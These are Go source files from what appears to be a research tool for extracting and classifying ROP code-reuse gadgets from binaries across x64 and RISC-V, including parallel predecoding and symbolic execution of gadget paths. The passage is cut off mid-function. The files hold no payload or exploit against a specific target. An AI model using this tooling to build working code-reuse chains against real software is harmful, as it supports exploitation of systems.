// Predecode decodes every byte offset of bin's executable sections into a
// Table using the default x64 backend, fanning the (embarrassingly parallel)
// decode work across at most parallelism workers (<=1 means serial). The
// build is accounted to the "decode" wall bucket.
func Predecode(bin *sbf.Binary, parallelism int) *Table {
	return PredecodeISA(bin, parallelism, isa.X64)
}

// PredecodeISA is Predecode against a specific backend. Offsets the backend
// refuses to decode — including misaligned ones on fixed-stride ISAs — keep
// Len == 0 entries, so walks chained through the table stop exactly where a
// direct decode would.
func PredecodeISA(bin *sbf.Binary, parallelism int, be isa.Backend) *Table {
	defer wall.Track("decode")()
	t := &Table{secs: bin.ExecSections()}
	t.insts = make([][]isa.Inst, len(t.secs))

	type job struct {
		si     int
		lo, hi int
	}
	var jobs []job
	for i, sec := range t.secs {
		t.insts[i] = make([]isa.Inst, len(sec.Data))
		for lo := 0; lo < len(sec.Data); lo += predecodeChunk {
			hi := min(lo+predecodeChunk, len(sec.Data))
			jobs = append(jobs, job{si: i, lo: lo, hi: hi})
		}
	}

	decodeRange := func(j job) {
		sec, insts := t.secs[j.si], t.insts[j.si]
		for off := j.lo; off < j.hi; off++ {
			in, err := be.Decode(sec.Data[off:], sec.Addr+uint64(off))
			if err == nil {
				insts[off] = in
			}
		}
	}

	if parallelism > len(jobs) {
		parallelism = len(jobs)
	}
	if parallelism <= 1 {
		for _, j := range jobs {
			decodeRange(j)
		}
		return t.finish()
	}
	next := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < parallelism; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				decodeRange(jobs[i])
			}
		}()
	}
	for i := range jobs {
		next <- i
	}
	close(next)
	wg.Wait()
	return t.finish()
}

// finish installs the single-section fast path.
func (t *Table) finish() *Table {
	if len(t.secs) == 1 {
		t.soloAddr, t.soloEnd = t.secs[0].Addr, t.secs[0].End()
		t.solo = t.insts[0]
	}
	return t
}

// inst returns the predecoded instruction at addr. Addresses outside every
// executable section, and offsets whose bytes do not decode, report false —
// exactly the cases where the legacy fetch-and-decode walk would stop.
func (t *Table) inst(addr uint64, _ *isa.Inst) (*isa.Inst, bool) {
	if t.solo != nil {
		if addr < t.soloAddr || addr >= t.soloEnd {
			return nil, false
		}
		in := &t.solo[addr-t.soloAddr]
		if in.Len == 0 {
			return nil, false
		}
		return in, true
	}
	// Sections are sorted by address: binary-search (hand-rolled — a
	// sort.Search closure costs more than the search on a hot path this
	// tight) for the first section ending past addr, then confirm it covers
	// addr. This replaces the fetcher's per-instruction linear scan.
	lo, hi := 0, len(t.secs)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if addr >= t.secs[mid].End() {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	if lo == len(t.secs) || addr < t.secs[lo].Addr {
		return nil, false
	}
	in := &t.insts[lo][addr-t.secs[lo].Addr]
	if in.Len == 0 {
		return nil, false
	}
	return in, true
}

// InstAt exposes table lookups for tests and the fuzz target pinning table
// entries against direct isa.Decode calls.
func (t *Table) InstAt(addr uint64) (isa.Inst, bool) {
	in, ok := t.inst(addr, nil)
	if !ok {
		return isa.Inst{}, false
	}
	return *in, true
}

// inst implements instSource on the legacy fetcher: resolve the section
// slice, then decode into the caller's scratch slot. This is the reference
// path the predecode table is pinned byte-identical against, and the
// NoPredecode benchmark arm.
func (f *fetcher) inst(addr uint64, scratch *isa.Inst) (*isa.Inst, bool) {
	code := f.at(addr)
	if code == nil {
		return nil, false
	}
	in, err := f.be.Decode(code, addr)
	if err != nil {
		return nil, false
	}
	*scratch = in
	return scratch, true
}
