package gadget

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Options tune extraction.
type Options struct {
	// MaxInsts caps the instruction count along one gadget path (including
	// merged pieces). Default 40 — the spill-style code generator produces
	// long basic blocks, and useful register loads sit well before the
	// block terminator.
	MaxInsts int
	// MaxForks caps how many conditional jumps a path may pass through.
	// Default 2.
	MaxForks int
	// MaxMerges caps how many direct jumps a path may follow. Default 3.
	MaxMerges int
	// Stride scans every Stride-th byte offset as a potential gadget start.
	// Default 1 (every offset, finding unaligned gadgets).
	Stride int
}

func (o Options) withDefaults() Options {
	if o.MaxInsts == 0 {
		o.MaxInsts = 40
	}
	if o.MaxForks == 0 {
		o.MaxForks = 2
	}
	if o.MaxMerges == 0 {
		o.MaxMerges = 3
	}
	if o.Stride == 0 {
		o.Stride = 1
	}
	return o
}

// fetcher resolves code bytes at virtual addresses.
type fetcher struct {
	secs []*sbf.Section
}

func newFetcher(bin *sbf.Binary) *fetcher {
	return &fetcher{secs: bin.ExecSections()}
}

// at returns the code slice starting at addr, or nil.
func (f *fetcher) at(addr uint64) []byte {
	for _, s := range f.secs {
		if s.Contains(addr) {
			return s.Data[addr-s.Addr:]
		}
	}
	return nil
}

// Extract scans every executable byte offset of bin, walks gadget paths
// (forking at conditional jumps, merging across direct jumps), runs symbolic
// execution on each, and returns the pool of usable gadgets.
func Extract(bin *sbf.Binary, opts Options) *Pool {
	opts = opts.withDefaults()
	b := expr.NewBuilder()
	pool := &Pool{
		Builder: b,
		ByReg:   make(map[isa.Reg][]*Gadget),
		Stats:   Stats{ByType: make(map[JmpType]int)},
	}
	f := newFetcher(bin)
	seen := make(map[string]bool)

	for _, sec := range f.secs {
		for off := 0; off < len(sec.Data); off += opts.Stride {
			pool.Stats.ScannedOffsets++
			start := sec.Addr + uint64(off)
			walk(f, start, nil, opts, func(steps []symex.Step, end symex.EndKind) {
				pool.Stats.RawCandidates++
				pool.Stats.ByType[Classify(steps, end)]++
				emit(pool, b, start, steps, seen)
			})
		}
	}
	return pool
}

// walk follows one gadget path from addr, invoking found for every complete
// (branch-terminated) path. The steps slice is owned by the caller chain and
// copied on emission.
func walk(f *fetcher, addr uint64, steps []symex.Step, opts Options, found func([]symex.Step, symex.EndKind)) {
	forks, merges := 0, 0
	for _, st := range steps {
		switch {
		case st.Inst.Op == isa.OpJcc:
			forks++
		case st.Inst.Op == isa.OpJmp && st.Inst.A.Kind == isa.KindImm:
			merges++
		}
	}

	for len(steps) < opts.MaxInsts {
		code := f.at(addr)
		if code == nil {
			return
		}
		inst, err := isa.Decode(code, addr)
		if err != nil {
			return
		}

		switch {
		case inst.Op == isa.OpRet:
			found(append(steps, symex.Step{Inst: inst}), symex.EndRet)
			return
		case inst.Op == isa.OpSyscall:
			found(append(steps, symex.Step{Inst: inst}), symex.EndSyscall)
			return
		case inst.Op == isa.OpJmp && inst.A.Kind != isa.KindImm:
			found(append(steps, symex.Step{Inst: inst}), symex.EndJmpInd)
			return
		case inst.Op == isa.OpCall && inst.A.Kind != isa.KindImm:
			found(append(steps, symex.Step{Inst: inst}), symex.EndCallInd)
			return
		case inst.Op == isa.OpJmp: // direct: merge with the target gadget
			if merges >= opts.MaxMerges {
				found(append(steps, symex.Step{Inst: inst}), symex.EndJmpDir)
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpCall: // direct call: follow into the callee
			if merges >= opts.MaxMerges {
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpJcc:
			if forks >= opts.MaxForks {
				// Report the taken-terminal variant for counting, then stop.
				found(append(steps, symex.Step{Inst: inst, Taken: true}), symex.EndJmpDir)
				return
			}
			// Fork: the taken path continues at the target (Fig. 4c), the
			// not-taken path falls through (Fig. 4b).
			taken := append(append([]symex.Step(nil), steps...), symex.Step{Inst: inst, Taken: true})
			walk(f, uint64(inst.A.Imm), taken, opts, found)
			steps = append(steps, symex.Step{Inst: inst, Taken: false})
			addr = inst.End()
			forks++
		case inst.Op == isa.OpHlt || inst.Op == isa.OpInt3:
			return // traps end the path unusably
		default:
			steps = append(steps, symex.Step{Inst: inst})
			addr = inst.End()
		}
	}
}

// pathKey identifies a gadget path for deduplication.
func pathKey(start uint64, steps []symex.Step) string {
	key := make([]byte, 0, 8+len(steps)*9)
	for i := 0; i < 8; i++ {
		key = append(key, byte(start>>(8*i)))
	}
	for _, st := range steps {
		a := st.Inst.Addr
		for i := 0; i < 8; i++ {
			key = append(key, byte(a>>(8*i)))
		}
		if st.Taken {
			key = append(key, 1)
		} else {
			key = append(key, 0)
		}
	}
	return string(key)
}

// emit runs symbolic execution on a complete path and adds the gadget to the
// pool if its semantics are supported.
func emit(pool *Pool, b *expr.Builder, start uint64, steps []symex.Step, seen map[string]bool) {
	// Paths that end in a direct jump are counted but not pooled: their
	// next-RIP is a constant, so they cannot continue an attacker chain
	// (merged variants of them are walked separately).
	last := steps[len(steps)-1]
	if last.Inst.Op == isa.OpJcc ||
		(last.Inst.Op == isa.OpJmp && last.Inst.A.Kind == isa.KindImm) {
		return
	}

	key := pathKey(start, steps)
	if seen[key] {
		return
	}
	seen[key] = true

	eff, err := symex.Exec(b, steps)
	if err != nil {
		pool.Stats.Unsupported++
		return
	}
	pool.Stats.Supported++

	g := &Gadget{
		Location: start,
		Len:      pathLen(steps),
		JmpType:  Classify(steps, eff.End),
		Steps:    steps,
		Effect:   eff,
	}
	for _, st := range steps {
		if st.Inst.Op == isa.OpJcc {
			g.HasCond = true
		}
		if st.Inst.Op == isa.OpJmp && st.Inst.A.Kind == isa.KindImm {
			g.Merged = true
		}
	}
	if g.Merged {
		pool.Stats.MergedGadgets++
	}
	fillRecord(b, g)
	pool.add(g)
}

// pathLen sums the encoded byte length of the path.
func pathLen(steps []symex.Step) int {
	n := 0
	for _, st := range steps {
		n += int(st.Inst.Len)
	}
	return n
}

// Count performs the cheap classic scan used for Fig. 1 / Table I numbers:
// decode from every byte offset until the first branch instruction and
// classify it. No symbolic execution, no merging, no forking — this mirrors
// what syntactic tools such as ROPGadget count.
func Count(bin *sbf.Binary, maxInsts int) map[JmpType]int {
	if maxInsts == 0 {
		maxInsts = 10
	}
	counts := make(map[JmpType]int)
	for _, sec := range bin.ExecSections() {
		for off := 0; off < len(sec.Data); off++ {
			addr := sec.Addr + uint64(off)
			code := sec.Data[off:]
			pos := 0
			hasCond := false
			for n := 0; n < maxInsts; n++ {
				inst, err := isa.Decode(code[pos:], addr+uint64(pos))
				if err != nil {
					break
				}
				pos += int(inst.Len)
				var t JmpType
				switch {
				case inst.Op == isa.OpRet:
					t = TypeReturn
				case inst.Op == isa.OpSyscall:
					t = TypeSyscall
				case inst.Op == isa.OpJmp && inst.A.Kind == isa.KindImm:
					t = TypeUDJ
					if hasCond {
						t = TypeCDJ
					}
				case (inst.Op == isa.OpJmp || inst.Op == isa.OpCall) && inst.A.Kind != isa.KindImm:
					t = TypeUIJ
					if hasCond {
						t = TypeCIJ
					}
				case inst.Op == isa.OpCall:
					// Direct call: classic scanners stop without counting.
					t = TypeInvalid
				case inst.Op == isa.OpJcc:
					hasCond = true
					continue
				default:
					continue
				}
				if t != TypeInvalid {
					counts[t]++
				}
				break
			}
		}
	}
	return counts
}

// TotalCount sums a Count result.
func TotalCount(counts map[JmpType]int) int {
	n := 0
	for _, c := range counts {
		n += c
	}
	return n
}
