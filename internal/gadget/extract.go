package gadget

import (
	"fmt"
	"runtime"
	"sort"
	"sync"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Options tune extraction.
type Options struct {
	// ISA selects the instruction-set backend ("x64", "rv64", "rv64c").
	// Empty means the default x64 backend.
	ISA string
	// MaxInsts caps the instruction count along one gadget path (including
	// merged pieces). Default 40 — the spill-style code generator produces
	// long basic blocks, and useful register loads sit well before the
	// block terminator.
	MaxInsts int
	// MaxForks caps how many conditional jumps a path may pass through.
	// Default 2.
	MaxForks int
	// MaxMerges caps how many direct jumps a path may follow. Default 3.
	MaxMerges int
	// Stride scans every Stride-th byte offset as a potential gadget start.
	// Default is the backend's decode stride: 1 on x64 (every offset,
	// finding unaligned gadgets), 4 on rv64, 2 on rv64c.
	Stride int
	// Parallelism is how many workers scan section shards concurrently.
	// 0 selects runtime.GOMAXPROCS(0); 1 scans single-threaded. The result
	// is identical at every worker count: shard boundaries and the merge
	// order depend only on the binary and Stride, never on scheduling.
	Parallelism int
	// NoPredecode disables the shared per-section predecode table and walks
	// paths by re-invoking isa.Decode at every step (the seed behavior).
	// The pool is byte-identical either way — the table is a pure decode
	// cache — so the flag exists only as the A/B arm of the extraction
	// benchmark and the reference side of the equivalence tests, and is
	// excluded from Fingerprint like Parallelism.
	NoPredecode bool
}

// Fingerprint renders the options' semantic fields canonically (defaults
// applied) for content-addressed artifact keys: two Options values with the
// same fingerprint produce byte-identical pools. Parallelism and
// NoPredecode are excluded — extraction results are identical at every
// worker count and with the predecode table on or off.
func (o Options) Fingerprint() string {
	o = o.withDefaults()
	fp := fmt.Sprintf("insts=%d,forks=%d,merges=%d,stride=%d",
		o.MaxInsts, o.MaxForks, o.MaxMerges, o.Stride)
	// The backend joins the fingerprint only when it is not the default, so
	// every pre-multi-ISA x64 key string — and the warm caches addressed by
	// them — stays valid byte-for-byte.
	if name := isa.CanonicalISA(o.ISA); name != isa.DefaultISA {
		fp += ",isa=" + name
	}
	return fp
}

// backend resolves the options' ISA field; unknown names fall back to the
// default backend (callers validate names at the CLI boundary).
func (o Options) backend() isa.Backend {
	be, ok := isa.ByName(o.ISA)
	if !ok {
		return isa.X64
	}
	return be
}

func (o Options) withDefaults() Options {
	if o.MaxInsts == 0 {
		o.MaxInsts = 40
	}
	if o.MaxForks == 0 {
		o.MaxForks = 2
	}
	if o.MaxMerges == 0 {
		o.MaxMerges = 3
	}
	if o.Stride == 0 {
		o.Stride = o.backend().Stride()
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	return o
}

// fetcher resolves code bytes at virtual addresses and decodes them with its
// backend. It is read-only after construction and safe for concurrent use by
// scan workers.
type fetcher struct {
	secs []*sbf.Section
	be   isa.Backend
}

func newFetcher(bin *sbf.Binary, be isa.Backend) *fetcher {
	return &fetcher{secs: bin.ExecSections(), be: be}
}

// at returns the code slice starting at addr, or nil.
func (f *fetcher) at(addr uint64) []byte {
	for _, s := range f.secs {
		if s.Contains(addr) {
			return s.Data[addr-s.Addr:]
		}
	}
	return nil
}

// chunkStrides is how many scan offsets one extraction shard covers. The
// chunk size is fixed (not derived from the worker count) so the shard
// partition — and with it the merge order and every interned node identity —
// is the same no matter how many workers run.
const chunkStrides = 2048

// shardJob is one contiguous scan range [lo, hi) of a section's bytes.
type shardJob struct {
	sec    *sbf.Section
	lo, hi int
}

// shard is one worker unit's output: gadgets whose effects live in the
// shard's private builder, plus local statistics. The executor and seen set
// are the shard's reusable per-path scratch.
type shard struct {
	b       *expr.Builder
	ex      *symex.Executor
	seen    map[uint64]struct{}
	gadgets []*Gadget
	stats   Stats
}

// Extract scans every executable byte offset of bin, walks gadget paths
// (forking at conditional jumps, merging across direct jumps), runs symbolic
// execution on each, and returns the pool of usable gadgets.
//
// Unless Options.NoPredecode is set, every section is first decoded once
// into a shared read-only predecode Table and all path walks chain through
// it, so each code byte is decoded exactly once no matter how many paths
// cross it.
//
// The scan is sharded across Options.Parallelism workers. Each worker
// symbolically executes its shard into a private expr.Builder; shards are
// then merged in shard order, re-interning every effect DAG into the pool's
// builder via expr.Import, so the pooled effects satisfy the same
// pointer-equality invariant a sequential scan would produce.
func Extract(bin *sbf.Binary, opts Options) *Pool {
	opts = opts.withDefaults()
	be := opts.backend()
	var src instSource
	if opts.NoPredecode {
		src = newFetcher(bin, be)
	} else {
		src = PredecodeISA(bin, opts.Parallelism, be)
	}

	var jobs []shardJob
	chunkBytes := opts.Stride * chunkStrides
	for _, sec := range bin.ExecSections() {
		for lo := 0; lo < len(sec.Data); lo += chunkBytes {
			hi := lo + chunkBytes
			if hi > len(sec.Data) {
				hi = len(sec.Data)
			}
			jobs = append(jobs, shardJob{sec: sec, lo: lo, hi: hi})
		}
	}

	shards := make([]*shard, len(jobs))
	workers := opts.Parallelism
	if workers > len(jobs) {
		workers = len(jobs)
	}
	if workers <= 1 {
		for i, job := range jobs {
			shards[i] = scanShard(src, job, opts)
		}
	} else {
		next := make(chan int)
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					shards[i] = scanShard(src, jobs[i], opts)
				}
			}()
		}
		for i := range jobs {
			next <- i
		}
		close(next)
		wg.Wait()
	}

	// Merge in shard order: statistics sum, and each shard's effect DAGs are
	// re-interned into the pool builder. Both the shard sequence and the
	// field order inside effectImporter are fixed, so node identities in the
	// merged builder are deterministic.
	b := expr.NewBuilder()
	pool := &Pool{
		Builder: b,
		ISA:     be.Name(),
		ByReg:   make(map[isa.Reg][]*Gadget),
		Stats:   Stats{ByType: make(map[JmpType]int)},
	}
	imp := newEffectImporter(b)
	var all []*Gadget
	for _, sh := range shards {
		pool.Stats.merge(sh.stats)
		for _, g := range sh.gadgets {
			g.Effect = imp.effect(g.Effect)
		}
		all = append(all, sh.gadgets...)
	}
	// Deterministic pool order regardless of sharding: by (addr, len), with
	// the stable sort preserving the walk's emission order for equal keys.
	sort.SliceStable(all, func(i, j int) bool {
		if all[i].Location != all[j].Location {
			return all[i].Location < all[j].Location
		}
		return all[i].Len < all[j].Len
	})
	for _, g := range all {
		fillRecord(b, g, be)
		pool.add(g)
	}
	return pool
}

// scanShard scans one job's offsets into a fresh shard.
func scanShard(src instSource, job shardJob, opts Options) *shard {
	sh := &shard{
		b:     expr.NewBuilder(),
		stats: Stats{ByType: make(map[JmpType]int)},
		// Path keys embed the start address, and shards partition the
		// starts, so a shard-local seen set deduplicates exactly like a
		// global one.
		seen: make(map[uint64]struct{}),
	}
	sh.ex = symex.NewExecutorISA(sh.b, opts.backend())
	w := &walker{src: src, opts: opts, sh: sh}
	root := w.getBuf()
	for off := job.lo; off < job.hi; off += opts.Stride {
		sh.stats.ScannedOffsets++
		w.start = job.sec.Addr + uint64(off)
		w.walk(w.start, root[:0])
	}
	return sh
}

// effectImporter re-interns effect DAGs into a destination builder. It
// holds the offset-sort scratch across effects, so the per-effect
// allocations are only the maps and slices that escape into the imported
// effect itself.
type effectImporter struct {
	imp  *expr.Importer
	offs []int64
}

func newEffectImporter(b *expr.Builder) *effectImporter {
	return &effectImporter{imp: expr.NewImporter(b)}
}

// effect re-interns an effect's DAGs into the importer's destination
// builder. Fields are visited in a fixed order (registers, next RIP, stack
// writes by ascending offset, memory accesses, conditions) so the
// destination's interning order is deterministic. Empty stack-write and
// input maps stay nil — most gadgets touch no stack slot, and consumers
// only range over or index these maps.
func (ei *effectImporter) effect(e *symex.Effect) *symex.Effect {
	out := &symex.Effect{
		StackDelta: e.StackDelta,
		End:        e.End,
	}
	out.Regs = make([]*expr.Node, len(e.Regs))
	for r := range e.Regs {
		out.Regs[r] = ei.imp.Import(e.Regs[r])
	}
	out.NextRIP = ei.imp.Import(e.NextRIP)
	if len(e.StackWrites) > 0 {
		offs := ei.offs[:0]
		for off := range e.StackWrites {
			offs = append(offs, off)
		}
		sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
		ei.offs = offs
		out.StackWrites = make(map[int64]symex.Write, len(e.StackWrites))
		for _, off := range offs {
			w := e.StackWrites[off]
			out.StackWrites[off] = symex.Write{Val: ei.imp.Import(w.Val), Size: w.Size}
		}
	}
	if len(e.Inputs) > 0 {
		out.Inputs = make(map[int64]uint8, len(e.Inputs))
		for off, size := range e.Inputs {
			out.Inputs[off] = size
		}
	}
	if len(e.MemReads) > 0 {
		out.MemReads = make([]symex.MemAccess, len(e.MemReads))
		for i, a := range e.MemReads {
			out.MemReads[i] = symex.MemAccess{Addr: ei.imp.Import(a.Addr), Val: ei.imp.Import(a.Val), Size: a.Size}
		}
	}
	if len(e.MemWrites) > 0 {
		out.MemWrites = make([]symex.MemAccess, len(e.MemWrites))
		for i, a := range e.MemWrites {
			out.MemWrites[i] = symex.MemAccess{Addr: ei.imp.Import(a.Addr), Val: ei.imp.Import(a.Val), Size: a.Size}
		}
	}
	out.Conds = ei.imp.ImportAll(e.Conds)
	return out
}

// walker enumerates gadget paths from one shard's start offsets. It owns a
// freelist of step buffers (capacity MaxInsts+1, so in-walk appends never
// reallocate) that back both the main path and the copies forked at
// conditional jumps; emit copies a completed path into its gadget, so the
// buffers recycle freely. One walker serves one shard — it is not safe for
// concurrent use.
type walker struct {
	src   instSource
	opts  Options
	sh    *shard
	start uint64
	free  [][]symex.Step
	// scratch is the decode slot handed to instSource: the fetcher decodes
	// into it, the table ignores it. Recursive walk calls reuse it, so any
	// instruction needed after a recursion must be copied out first.
	scratch isa.Inst
}

// getBuf returns an empty step buffer with capacity MaxInsts+1.
func (w *walker) getBuf() []symex.Step {
	if n := len(w.free) - 1; n >= 0 {
		b := w.free[n]
		w.free = w.free[:n]
		return b[:0]
	}
	return make([]symex.Step, 0, w.opts.MaxInsts+1)
}

// putBuf returns a buffer to the freelist once the fork that borrowed it
// has been fully explored.
func (w *walker) putBuf(b []symex.Step) { w.free = append(w.free, b) }

// found records one complete (branch-terminated) path: raw-candidate
// statistics, then shard emission. steps is walker-owned scratch; emit
// copies what it keeps.
func (w *walker) found(steps []symex.Step, end symex.EndKind) {
	w.sh.stats.RawCandidates++
	w.sh.stats.ByType[Classify(steps, end)]++
	w.sh.emit(w.start, steps)
}

// walk follows one gadget path from addr, invoking found for every complete
// (branch-terminated) path. Instructions come from w.src — the shared
// predecode table, or decode-per-step when Options.NoPredecode retains the
// seed behavior.
//
// The fork/merge budget is recounted from the steps prefix on entry, not
// threaded through the recursion, reproducing the seed walk exactly: in
// particular a merged direct call consumes in-loop merge budget but is not
// recounted when a later fork recurses, so the taken branch regains that
// budget just as it always did. Byte-identity with the seed pool depends on
// this quirk staying put.
func (w *walker) walk(addr uint64, steps []symex.Step) {
	forks, merges := 0, 0
	for i := range steps {
		switch in := &steps[i].Inst; {
		case in.Op == isa.OpJcc || in.Op == isa.OpBcc:
			forks++
		case in.Op == isa.OpJmp && in.A.Kind == isa.KindImm:
			merges++
		}
	}

	for len(steps) < w.opts.MaxInsts {
		inst, ok := w.src.inst(addr, &w.scratch)
		if !ok {
			return
		}

		switch {
		case inst.Op == isa.OpRet:
			w.found(append(steps, symex.Step{Inst: *inst}), symex.EndRet)
			return
		case inst.Op == isa.OpSyscall:
			w.found(append(steps, symex.Step{Inst: *inst}), symex.EndSyscall)
			return
		case inst.Op == isa.OpJmp && inst.A.Kind != isa.KindImm:
			w.found(append(steps, symex.Step{Inst: *inst}), symex.EndJmpInd)
			return
		case inst.Op == isa.OpCall && inst.A.Kind != isa.KindImm:
			w.found(append(steps, symex.Step{Inst: *inst}), symex.EndCallInd)
			return
		case inst.Op == isa.OpJalr:
			// RISC-V jalr with a non-{x0,ra} link register: indirect jump
			// that also deposits a return address.
			w.found(append(steps, symex.Step{Inst: *inst}), symex.EndJmpInd)
			return
		case inst.Op == isa.OpJmp: // direct: merge with the target gadget
			if merges >= w.opts.MaxMerges {
				w.found(append(steps, symex.Step{Inst: *inst}), symex.EndJmpDir)
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: *inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpCall: // direct call: follow into the callee
			if merges >= w.opts.MaxMerges {
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: *inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpJal: // RISC-V direct jump-and-link: follow it
			if merges >= w.opts.MaxMerges {
				return
			}
			merges++
			steps = append(steps, symex.Step{Inst: *inst})
			addr = uint64(inst.A.Imm)
		case inst.Op == isa.OpJcc || inst.Op == isa.OpBcc:
			if forks >= w.opts.MaxForks {
				// Report the taken-terminal variant for counting, then stop.
				w.found(append(steps, symex.Step{Inst: *inst, Taken: true}), symex.EndJmpDir)
				return
			}
			// Fork: the taken path continues at the target (Fig. 4c), the
			// not-taken path falls through (Fig. 4b). The taken copy lives
			// in a freelist buffer for the duration of its subtree. The jcc
			// itself is copied out of the scratch slot, which the recursion
			// below reuses.
			jcc := *inst
			taken := w.getBuf()
			taken = append(taken, steps...)
			taken = append(taken, symex.Step{Inst: jcc, Taken: true})
			w.walk(uint64(jcc.A.Imm), taken)
			w.putBuf(taken)
			steps = append(steps, symex.Step{Inst: jcc, Taken: false})
			addr = jcc.End()
			forks++
		case inst.Op == isa.OpHlt || inst.Op == isa.OpInt3:
			return // traps end the path unusably
		default:
			steps = append(steps, symex.Step{Inst: *inst})
			addr = inst.End()
		}
	}
}

// pathHash identifies a gadget path for deduplication: the start address
// and every step's (address, taken) pair — the identity the seed's
// heap-allocated string key materialized — folded through a 64-bit
// splitmix-style mixer instead. The hash is a pure function of the path, so
// shard contents stay identical at every worker count; at well under a
// million paths per shard-local set, a 64-bit avalanche hash makes a
// colliding pair vanishingly unlikely (and the equivalence tests pin pool
// identity against the reference walk regardless).
func pathHash(start uint64, steps []symex.Step) uint64 {
	h := mix64(0x9E3779B97F4A7C15, start)
	for i := range steps {
		// The taken bit rides in bit 0; instruction addresses lose only a
		// top bit that virtual addresses never use.
		v := steps[i].Inst.Addr << 1
		if steps[i].Taken {
			v |= 1
		}
		h = mix64(h, v)
	}
	return h
}

// mix64 folds v into h with splitmix64's finalizer (full avalanche, six
// arithmetic ops — far cheaper than byte-wise FNV on this hot path).
func mix64(h, v uint64) uint64 {
	z := h ^ v
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// emit runs symbolic execution on a complete path and records the gadget in
// the shard if its semantics are supported. steps is walker scratch and is
// copied into the gadget on success. The Table II record fields that depend
// on builder node identity (ClobRegs/CtrlRegs) are filled at merge time,
// after the effect is imported into the pool builder.
func (sh *shard) emit(start uint64, steps []symex.Step) {
	// Paths that end in a direct jump are counted but not pooled: their
	// next-RIP is a constant, so they cannot continue an attacker chain
	// (merged variants of them are walked separately).
	last := steps[len(steps)-1]
	if last.Inst.Op == isa.OpJcc || last.Inst.Op == isa.OpBcc ||
		(last.Inst.Op == isa.OpJmp && last.Inst.A.Kind == isa.KindImm) {
		return
	}

	key := pathHash(start, steps)
	if _, ok := sh.seen[key]; ok {
		return
	}
	sh.seen[key] = struct{}{}

	eff, err := sh.ex.Exec(steps)
	if err != nil {
		sh.stats.Unsupported++
		return
	}
	sh.stats.Supported++

	g := &Gadget{
		Location: start,
		Len:      pathLen(steps),
		JmpType:  Classify(steps, eff.End),
		Steps:    append(make([]symex.Step, 0, len(steps)), steps...),
		Effect:   eff,
	}
	for i := range steps {
		in := &steps[i].Inst
		if in.Op == isa.OpJcc || in.Op == isa.OpBcc {
			g.HasCond = true
		}
		if in.Op == isa.OpJmp && in.A.Kind == isa.KindImm {
			g.Merged = true
		}
	}
	if g.Merged {
		sh.stats.MergedGadgets++
	}
	sh.gadgets = append(sh.gadgets, g)
}

// pathLen sums the encoded byte length of the path.
func pathLen(steps []symex.Step) int {
	n := 0
	for i := range steps {
		n += int(steps[i].Inst.Len)
	}
	return n
}

// Count performs the cheap classic scan used for Fig. 1 / Table I numbers:
// decode from every byte offset until the first branch instruction and
// classify it. No symbolic execution, no merging, no forking — this mirrors
// what syntactic tools such as ROPGadget count. The scan chains through a
// predecode table, so each code byte is decoded once instead of once per
// covering window.
func Count(bin *sbf.Binary, maxInsts int) map[JmpType]int {
	return CountISA(bin, maxInsts, isa.X64)
}

// CountISA is Count against a specific backend. The scan still tries every
// byte offset; on fixed-stride backends the predecode table leaves
// misaligned offsets undecodable, so only stride-aligned chains count —
// exactly the aligned-decode property that shrinks the RISC-V surface.
func CountISA(bin *sbf.Binary, maxInsts int, be isa.Backend) map[JmpType]int {
	if maxInsts == 0 {
		maxInsts = 10
	}
	t := PredecodeISA(bin, runtime.GOMAXPROCS(0), be)
	counts := make(map[JmpType]int)
	for si, sec := range t.secs {
		insts := t.insts[si]
		for off := 0; off < len(sec.Data); off++ {
			pos := off
			hasCond := false
			for n := 0; n < maxInsts; n++ {
				if pos >= len(insts) {
					break
				}
				inst := insts[pos]
				if inst.Len == 0 {
					break
				}
				pos += int(inst.Len)
				var jt JmpType
				switch be.Classify(&inst) {
				case isa.ClassRet:
					jt = TypeReturn
				case isa.ClassSyscall:
					jt = TypeSyscall
				case isa.ClassJmpDir:
					jt = TypeUDJ
					if hasCond {
						jt = TypeCDJ
					}
				case isa.ClassJmpInd, isa.ClassCallInd:
					jt = TypeUIJ
					if hasCond {
						jt = TypeCIJ
					}
				case isa.ClassCallDir:
					// Direct call: classic scanners stop without counting.
					jt = TypeInvalid
				case isa.ClassCondBr:
					hasCond = true
					continue
				default:
					continue
				}
				if jt != TypeInvalid {
					counts[jt]++
				}
				break
			}
		}
	}
	return counts
}

// TotalCount sums a Count result.
func TotalCount(counts map[JmpType]int) int {
	n := 0
	for _, c := range counts {
		n += c
	}
	return n
}

// ClonePool deep-copies a pool into a fresh expression builder: every
// gadget record is copied (IDs and immutable slices included) and its
// effect DAG re-interned via expr.Import, walking the gadgets in pool
// order. Index membership (ByReg, Syscalls) is carried over by identity,
// so the clone is indistinguishable from the original to the planner.
//
// Consumers that mutate builder state — payload concretization interns
// fresh nodes for cells, scratch memory, and substitutions — clone per
// consumer so concurrent consumers never share a builder. Because the
// clone is built in a deterministic order, the clone's node identities
// (and everything downstream of them, solver models included) are a
// function of the source pool alone, not of who else used it.
func ClonePool(p *Pool) *Pool {
	b := expr.NewBuilder()
	out := &Pool{
